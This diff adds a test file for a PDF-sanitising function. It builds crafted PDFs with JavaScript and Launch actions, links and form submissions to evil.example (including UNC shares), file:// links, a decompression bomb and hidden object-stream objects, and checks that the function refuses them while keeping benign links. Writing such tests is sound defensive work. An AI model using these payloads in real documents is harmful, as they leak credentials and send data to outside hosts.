@@ -1,0 +1,76 @@
+import { deflateSync } from 'node:zlib';
+import { PDFDocument } from 'pdf-lib';
+import { expect, it } from 'vitest';
+import { pdf } from '#test/builders/upload.ts';
+import { cleanPdf } from './clean-pdf.ts';
+
+const stream = (dictionary: string, inner: string, number = 5) => {
+  const packed = deflateSync(Buffer.from(inner, 'latin1')).toString('latin1');
+  return `${number} 0 obj\n<< ${dictionary} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n`;
+};
+const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+const link = (action: string) => `4 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>\nendobj\n`;
+const outcome = (content: Buffer) =>
+  cleanPdf(content).then(
+    () => 'kept',
+    (error: Error) => error.message,
+  );
+
+it.each([
+  ['an object stream whose dictionary says obj', pdf('', stream('/Type /ObjStm /N 1 /First 4 /X (obj)', `4 0 ${script}`))],
+  ['an object stream named by escapes', pdf('', stream('/Type /O#62jStm /N 1 /First 4', `4 0 ${script}`))],
+  [
+    'a link to a document in another machine’s folder',
+    pdf('', link('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>')),
+  ],
+  ['a link to such a folder', pdf('', link('<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>'))],
+  ['the same without backslashes', pdf('', link('<< /S /URI /URI (//evil.example/share) >>'))],
+  ['a link to a file', pdf('', link('<< /S /URI /URI <66696c653a2f2f2f433a2f782e657865> >>'))],
+  ['links beside a base that is a file', pdf('/URI << /Base (file://evil.example/) >>')],
+  [
+    'an action after a harmless one',
+    pdf('', link('<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo >> 6 0 R] >>') + `6 0 obj\n<< /S /Launch >>\nendobj\n`),
+  ],
+  ['an action that nobody knows', pdf('/OpenAction << /S /Made#20up >>')],
+  ['an opening by reference', pdf('/OpenAction 6 0 R', `6 0 obj\n${script}\nendobj\n`)],
+  ['a picture that lies elsewhere', pdf('', stream('/Type /XObject /Subtype /Image /F (\\\\\\\\evil.example\\\\x.png)', 'x'))],
+  ['a page of another file', pdf('', stream('/Type /XObject /Subtype /Form /Ref << /F << /UF (x.pdf) >> /Page 0 >>', 'x'))],
+  ['a form that sends itself', pdf('', link('<< /S /SubmitForm /F << /FS /URL /F (http://evil.example) >> >>'))],
+  ['a film', pdf('', '4 0 obj\n<< /Type /Annot /Subtype /RichMedia >>\nendobj\n')],
+  [
+    'objects packed by a filter that hides them',
+    pdf('', '5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length 4 >>\nstream\n30>\nendstream\nendobj\n'),
+  ],
+  ['objects that unpack to too much', pdf('', stream('/Type /ObjStm /N 1 /First 4', ' '.repeat(60_000_000)))],
+])('%s is refused', async (_what, content) => {
+  expect(await outcome(content)).toBe('file.unsafe');
+});
+
+it.each([
+  ['a link to the web', pdf('', link('<< /S /URI /URI (https://www.example.in/a?b=c) >>'))],
+  ['a letter', pdf('', link('<< /S /URI /URI (mailto:claims@insurer.example) >>'))],
+  ['opening at a page', pdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')],
+  ['opening at a place', pdf('/OpenAction [3 0 R /Fit]')],
+  ['the text’s structure', pdf('', '4 0 obj\n<< /S /Figure /P 3 0 R /A << /O /Layout /BBox [0 0 9 9] >> >>\nendobj\n')],
+  ['an annotation with its flags', pdf('', '4 0 obj\n<< /Type /Annot /Subtype /Link /F 4 /BS << /S /S >> >>\nendobj\n')],
+  ['objects in an object stream', pdf('', stream('/Type /ObjStm /N 1 /First 4', '9 0 << /S /GoTo >>'))],
+])('%s is kept', async (_what, content) => {
+  expect(await outcome(content)).toBe('kept');
+});
+
+it('leaves behind what no object is', async () => {
+  // A reader that believes its table of places would find this object inside of a stream; the table is written anew.
+  const hidden = pdf(
+    '',
+    `7 0 obj\n<< /Length 60 >>\nstream\n8 0 obj ${script} endobj\nendstream\nendobj\n% said between objects\n`,
+  );
+  const clean = Buffer.from(await cleanPdf(hidden)).toString('latin1');
+  expect(clean).not.toContain('said between objects');
+  const again = await PDFDocument.load(await cleanPdf(hidden), { updateMetadata: false });
+  expect(again.getPageCount()).toBe(1);
+  expect(again.context.enumerateIndirectObjects().map(([ref]) => ref.objectNumber)).not.toContain(8);
+});
+
+it('writes the same file from the same file', async () => {
+  expect(await cleanPdf(pdf())).toEqual(await cleanPdf(pdf()));
+});
